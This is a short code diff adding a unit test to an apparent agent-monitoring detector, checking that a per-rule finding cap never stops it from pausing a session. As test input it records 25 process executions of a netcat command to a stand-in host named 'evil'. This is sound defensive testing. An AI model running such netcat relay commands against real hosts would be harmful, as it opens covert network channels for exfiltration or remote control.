@@ -204,3 +204,18 @@ test('a honeytoken glob that cannot be compiled is recorded as detect.error per 
   assert.deepEqual(f[0]!.data.evidence, [second.id]);
   store.close();
 });
+
+test('the per-rule finding cap never stops enforcement: the 25th relay after resumes still pauses', async () => {
+  const store = fresh();
+  const { calls, control } = recorder();
+  const d = startDetector({ store, policy: policy('telemetry:\n  responses: {high: pause}\n'), session: 's', agent: 'a', control });
+  for (let i = 0; i < 25; i++) {
+    store.append({ type: 'process.exec', session: 's', data: { pid: 100 + i, argv: ['nc', 'evil', '1'] } });
+    await until(() => d.paused());
+    await d.idle();
+    await d.resume('alice');
+  }
+  assert.equal(calls.filter((c) => c === 'pause').length, 25, 'every finding past the cap still paused the session');
+  d.stop();
+  store.close();
+});
